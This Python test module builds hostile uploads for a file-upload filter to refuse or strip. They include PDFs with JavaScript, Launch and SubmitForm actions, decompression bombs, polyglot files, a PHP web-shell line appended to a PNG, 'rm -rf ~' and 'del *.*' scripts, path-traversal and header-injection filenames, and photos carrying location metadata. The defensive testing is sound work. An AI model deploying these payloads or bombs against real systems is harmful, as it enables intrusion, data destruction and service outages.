"""Hostile files, made in code: what somebody sends who wants to be let in, to break the server, or to be
found on the computer of a caseworker; and pictures that say more than their sender wants.

`REFUSED` names each with the reason why it is not taken; `NEUTRALISED` those of which something harmless is
kept, with what may not be left in it.
"""

import io
import struct
import zlib
from functools import partial
from typing import Any

import pikepdf
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

from tests.attacks.hostile import Make, Neutralised, Refused
from tests.attacks.office import OFFICES, OLE, SCRIPT
from tests.attacks.samples import (
    PLACES,
    box,
    docx,
    docx_parts,
    odt,
    packed,
    pdf,
    picture,
    played,
    recording,
    track,
    xlsx,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PLACE, DEVICE = "34.6037", "InventedPhone 9"


# -- PDF -----------------------------------------------------------------------------------------------------
Name, Dictionary, Array, Stream = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream


def acting(**action: Any) -> Any:
    return Dictionary(**{key: Name(f"/{one}") if key == "S" else one for key, one in action.items()})


def opens_with(action: Any) -> Make:
    def change(document: Any) -> None:
        document.Root.OpenAction = action

    return partial(pdf, change)


def annotated(**annotation: Any) -> Make:
    def change(document: Any) -> None:
        one = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **annotation)
        document.pages[0].Annots = Array([document.make_indirect(one)])

    return partial(pdf, change)


def with_root(**entries: Any) -> Make:
    def change(document: Any) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return partial(pdf, change)


def attached(document: Any) -> None:
    document.attachments["evil.exe"] = b"MZ" + bytes(40)


def escaped() -> bytes:
    """The name of the entry is written otherwise; what follows it stays where it was."""

    def change(document: Any) -> None:
        attached(document)
        document.Root.Names.Pad = pikepdf.String("xxxx")

    made = pdf(change)
    assert b"(xxxx)" in made
    return made.replace(b"/EmbeddedFiles", b"/Embedded#46iles").replace(b"(xxxx)", b"(xx)")


def in_object_stream() -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.Root.OpenAction = document.make_indirect(acting(S="JavaScript", JS="app.alert(1)"))
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def unpacking() -> bytes:
    """Its structure unpacks to 70 MB."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.Root.Large = document.make_indirect(pikepdf.String("a" * 70_000_000))
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def of_zeros(streams: int = 1, zeros: int = 1_500_000) -> bytes:
    """Each of its streams of objects has an array of so many zeros: in 3 KB, and hundreds of MB when read."""
    parts: list[bytes] = [b"%PDF-1.7\n"]
    places: list[int] = []
    first, packed_in = 3, 3 + streams

    def add(number: int, head: bytes, body: bytes) -> None:
        places.append(sum(map(len, parts)))
        parts.append(
            b"%d 0 obj\n<<%s/Length %d>>stream\n%s\nendstream\nendobj\n" % (number, head, len(body), body)
        )

    parts.append(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n")
    parts.append(b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n")
    for at in range(streams):
        head = b"%d 0 " % (packed_in + at)
        body = zlib.compress(head + b"[" + b"0 " * zeros + b"]", 9)
        add(first + at, b"/Type/ObjStm/N 1/First %d/Filter/FlateDecode" % len(head), body)
    start = sum(map(len, parts))
    table = [(0, 0, 255), (1, len(parts[0]), 0), (1, len(parts[0]) + len(parts[1]), 0)]
    table += [(1, place, 0) for place in places]
    table += [(2, first + at, 0) for at in range(streams)] + [(1, start, 0)]
    rows = b"".join(struct.pack(">BIB", *row) for row in table)
    add(len(table) - 1, b"/Type/XRef/Size %d/W[1 4 1]/Root 1 0 R" % len(table), rows)
    parts.append(b"startxref\n%d\n%%%%EOF\n" % start)
    return b"".join(parts)


def locked() -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(made, encryption=pikepdf.Encryption(owner="o", user="u"))
    return made.getvalue()


def nested(depth: int = 40) -> bytes:
    """The action stands deep in arrays in arrays."""

    def change(document: Any) -> None:
        inner = acting(S="Launch", F="cmd.exe")
        for _level in range(depth):
            inner = Array([inner])
        document.Root.Deep = inner

    return pdf(change)


PDFS = [
    Refused("script.pdf", opens_with(acting(S="JavaScript", JS="app.alert(1)")), "pdf_acts"),
    Refused("launch.pdf", opens_with(acting(S="Launch", F="cmd.exe")), "pdf_acts"),
    Refused("remote.pdf", opens_with(acting(S="GoToR", F="//server/share")), "pdf_acts"),
    Refused("submit.pdf", opens_with(acting(S="SubmitForm", F="https://evil.invalid")), "pdf_acts"),
    Refused("import.pdf", opens_with(acting(S="ImportData", F="x.fdf")), "pdf_acts"),
    Refused("embedded.pdf", partial(pdf, attached), "pdf_acts"),
    Refused("attachment.pdf", annotated(Subtype=Name.FileAttachment), "pdf_acts"),
    Refused("media.pdf", annotated(Subtype=Name.RichMedia), "pdf_acts"),
    Refused("hover.pdf", annotated(Subtype=Name.Link, AA=Dictionary()), "pdf_acts"),
    Refused("xfa.pdf", with_root(AcroForm=Dictionary(XFA=Array([]))), "pdf_acts"),
    Refused("names.pdf", with_root(Names=Dictionary(JavaScript=Dictionary())), "pdf_acts"),
    Refused("hidden.pdf", in_object_stream, "pdf_acts"),
    Refused("deep.pdf", nested, "pdf_acts"),
    Refused("escaped.pdf", escaped, "pdf_acts"),
    Refused("locked.pdf", locked, "pdf_locked"),
    Refused("unpacks.pdf", unpacking, "damaged"),
    Refused("zeros.pdf", of_zeros, "too_complicated"),
    Refused("many_zeros.pdf", partial(of_zeros, 51, 40_000), "too_complicated"),
    Refused("no_table.pdf", lambda: pdf().replace(b"startxref", b"startxxxx"), "damaged"),
    Refused("cut.pdf", lambda: pdf()[:200], "damaged"),
    Refused("nothing.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    Refused("and_zip.pdf", lambda: pdf() + packed({"a": b"a"}), "two_in_one"),
    Refused("and_page.pdf", lambda: pdf() + b"<html>" + SCRIPT, "two_in_one"),
    Refused("zip_inside.pdf", lambda: pdf().replace(b"%%EOF", b"PK\x05\x06%%EOF"), "two_in_one"),
]

# -- Pages, scripts, programs --------------------------------------------------------------------------------
PAGES = [
    Refused("drawing.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "page"),
    Refused("picture.png", lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", "page"),
    Refused("page.html", lambda: b"<!DOCTYPE html><html>" + SCRIPT, "page"),
    Refused("words.txt", lambda: b"Dear all,\n" + b"words " * 100_000 + SCRIPT, "page"),
    Refused("marked.txt", lambda: b"\xef\xbb\xbf  <html>", "page"),
    Refused("on_the_border.txt", lambda: b"x" * (256 * 1024 - 3) + SCRIPT, "page"),
    Refused("link.txt", lambda: b"Click javascript:alert(1) here", "page"),
    Refused("run.txt", lambda: b"#!/bin/sh\nrm -rf ~\n", "page"),
    Refused("page.ps.txt", lambda: b"%!PS-Adobe-3.0\n", "page"),
    Refused("rich.txt", lambda: rb"{\rtf1\ansi{\object\objocx}}", "page"),
    Refused("program.exe", lambda: b"MZ" + bytes(200), "not_taken"),
    Refused("program.txt", lambda: b"\x7fELF" + bytes(200), "not_taken"),
    Refused("nul.txt", lambda: b"words" + bytes(10) + b"words", "not_taken"),
    Refused("late_nul.txt", lambda: b"words " * 2000 + b"\0", "not_taken"),
    Refused("latin.txt", lambda: b"words " * 1000 + b"\xff\xfe", "not_taken"),
    Refused("nothing.txt", lambda: b"", "empty"),
    Refused("old.doc", lambda: OLE, "old_office"),
    Refused("photo.heic", lambda: box(b"ftyp", b"heic" + bytes(4)), "heic"),
    Refused("archive.zip", lambda: packed({"a.txt": b"a"}), "not_taken"),
    Refused("archive.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(90), "not_taken"),
    Refused("archive.gz", lambda: b"\x1f\x8b\x08" + bytes(90), "not_taken"),
]

# -- Names that say something else ---------------------------------------------------------------------------
NAMES = [
    Refused("photo.pdf", lambda: picture("JPEG"), "other_name"),
    Refused("photo.jpg.exe", lambda: picture("JPEG"), "other_name"),
    Refused("letter\u202efdp.exe", pdf, "other_name"),
    Refused("letter.html", lambda: b"only words", "other_name"),
    Refused("letter.docm", docx, "other_name"),
    Refused("letter.docx", xlsx, "other_name"),
    Refused("run.bat", lambda: b"del *.*\r\n", "other_name"),
    Refused("letter.pdf .scr", pdf, "other_name"),
]


# -- Pictures ------------------------------------------------------------------------------------------------
def png_of(width: int, height: int) -> bytes:
    """A picture of that size by its head, in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = (chunk(b"IHDR", head), chunk(b"IDAT", zlib.compress(b"")), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def text_bomb() -> bytes:
    """A comment that unpacks to 200 MB."""
    data = b"Comment\0\0" + zlib.compress(bytes(200 * 1024 * 1024))
    whole = png_of(4, 4)
    at = whole.index(b"IDAT") - 4
    said = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return whole[:at] + said + whole[at:]


# Tables of a track that say more than there is.
ONE_SAMPLE = b"stsz" + struct.pack(">III", 0, len(PLACES), 1)
TWO, MANY = (ONE_SAMPLE[:-4] + struct.pack(">I", count) for count in (2, 2**32 - 1))
ONE_PLACE, THREE = (b"stco" + struct.pack(">II", 0, count) for count in (1, 3))

BIG_PICTURES = [
    Refused("hundred.png", partial(png_of, 10_000, 10_001), "too_many_pixels"),
    Refused("thousand.png", partial(png_of, 40_000, 40_000), "too_many_pixels"),
    Refused("line.png", partial(png_of, 2_000_000_000, 2), "too_many_pixels"),
    Refused("hundred.jpg", lambda: picture("JPEG", (10_200, 10_000), "L"), "too_many_pixels"),
    Refused("bomb.png", text_bomb, "damaged"),
    Refused("cut.jpg", lambda: picture("JPEG", (400, 300))[:-60], "damaged"),
    Refused("head.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "damaged"),
    Refused("head.jpg", lambda: b"\xff\xd8\xff" + SCRIPT, "damaged"),
    Refused("no_tracks.mp4", lambda: box(b"ftyp", b"isom" + bytes(4)) + box(b"mdat", b"x"), "damaged"),
    Refused("and_zip.mp4", lambda: recording(more=packed({"a": b"a"})), "two_in_one"),
    Refused("and_page.mp4", lambda: recording(more=box(b"html", SCRIPT)), "two_in_one"),
    Refused("elsewhere.mp4", lambda: played(track(b"meta", 4)), "recording_tells"),
    Refused(
        "more_samples.mp4", lambda: played(track(b"meta", 32).replace(ONE_SAMPLE, TWO)), "recording_tells"
    ),
    Refused("fragments.mp4", lambda: played(track(b"meta", 32), after=box(b"moof")), "recording_tells"),
    Refused(
        "many_samples.mp4", lambda: played(track(b"meta", 32).replace(ONE_SAMPLE, MANY)), "too_complicated"
    ),
    Refused("short_table.mp4", lambda: played(track(b"meta", 32).replace(ONE_PLACE, THREE)), "damaged"),
    Refused("longer.mp4", lambda: recording(more=struct.pack(">I", 900) + b"free"), "two_in_one"),
]


def exif() -> Image.Exif:
    said = Image.Exif()
    said[ExifTags.Base.Model] = DEVICE
    said[ExifTags.Base.Orientation] = 6
    said.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSMapDatum] = PLACE
    return said


def commented_png() -> bytes:
    said = PngInfo()
    said.add_text("Comment", f"taken at {PLACE}")
    said.add_itxt("XML:com.adobe.xmp", f"<x>{DEVICE}</x>", zip=False)
    return picture("PNG", pnginfo=said, exif=exif())


def photo_in_a_letter() -> bytes:
    return packed(docx_parts() | {"word/media/image1.jpeg": picture("JPEG", exif=exif())})


TOLD = (PLACE.encode(), DEVICE.encode())
# A thumbnail that shows what was cut away from the picture.
THUMBNAIL = b"Exif\0\0MM\0*" + b"thumbnail of what was cut away"

NEUTRALISED = [
    Neutralised("where.jpg", lambda: picture("JPEG", exif=exif()), TOLD),
    Neutralised("where.png", commented_png, TOLD),
    Neutralised("where.webp", lambda: picture("WEBP", exif=exif(), xmp=DEVICE.encode()), TOLD),
    Neutralised("comment.jpg", lambda: picture("JPEG", comment=PLACE.encode()), TOLD),
    Neutralised("profile.jpg", lambda: picture("JPEG", icc_profile=DEVICE.encode()), TOLD),
    Neutralised("thumbnail.jpg", lambda: picture("JPEG", exif=THUMBNAIL), (b"cut away",)),
    Neutralised("and_zip.jpg", lambda: picture("JPEG") + packed({"a.txt": b"hidden"}), (b"PK\x03\x04",)),
    Neutralised("and_page.png", lambda: picture("PNG") + b"<html>" + SCRIPT, (b"script",)),
    Neutralised("and_jar.webp", lambda: picture("WEBP") + packed({"A.class": b"x"}), (b"PK\x05\x06",)),
    Neutralised("script_in_comment.jpg", lambda: picture("JPEG", comment=SCRIPT), (b"script",)),
    Neutralised("php.png", lambda: picture("PNG") + b"<?php system($_GET[0]); ?>", (b"php",)),
    Neutralised("where.mp4", recording, (b"+34.60-058.38/",)),
    Neutralised("where.m4a", partial(recording, b"M4A "), (b"+34.60-058.38/",)),
    Neutralised("gps.mp4", lambda: played(track(), more=box(b"gps ", b"+34.6")), (b"+34.6", b"gps ")),
    Neutralised("unknown.mp4", lambda: played(track(more=box(b"abcd", b"hidden"))), (b"hidden", b"abcd")),
    Neutralised("metadata.mp4", lambda: played(track(b"meta", 32)), (PLACES, b"stsz")),
    Neutralised("camera.mp4", lambda: played(track(b"camm", 32), track(b"soun", 24, size=8)), (PLACES,)),
    Neutralised("hidden.mp4", lambda: recording(more=box(b"free", b"hidden words")), (b"hidden words",)),
    Neutralised("author.docx", docx, (b"Zyxandra",)),
    Neutralised("author.odt", odt, (b"Zyxandra",)),
    Neutralised("photo.docx", photo_in_a_letter, TOLD),
]

# Of a text that is taken: the name that somebody gave it, and what is kept of that.
NAMES_KEPT = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\system32\\notes.txt": "notes.txt",
    "/etc/shadow.txt": "shadow.txt",
    "letter\u202etxt.txt": "lettertxt.txt",
    "a\u200bb\u2066c.txt": "abc.txt",
    "a\x00b.txt": "ab.txt",
    "a\r\nContent-Type: text/html.txt": "html.txt",
    "a\nb\tc\x1b[31m.txt": "abc[31m.txt",
    "con.txt": "_con.txt",
    "LPT1": "_LPT1",
    "...": "document",
    "": "document",
    " .txt ": "txt",
    '<img src=x onerror="alert(1)">.txt': "_img src=x onerror=_alert(1)__.txt",
    "\ud800lone.txt": "lone.txt",
    "x" * 300 + ".txt": "x" * 116 + ".txt",
    "photo.txt:hidden.txt": "photo.txt_hidden.txt",
    "e\u0301.txt": "é.txt",
}

REFUSED = [*PDFS, *PAGES, *NAMES, *OFFICES, *BIG_PICTURES]
HOW_MANY = len(REFUSED) + len(NEUTRALISED) + len(NAMES_KEPT)
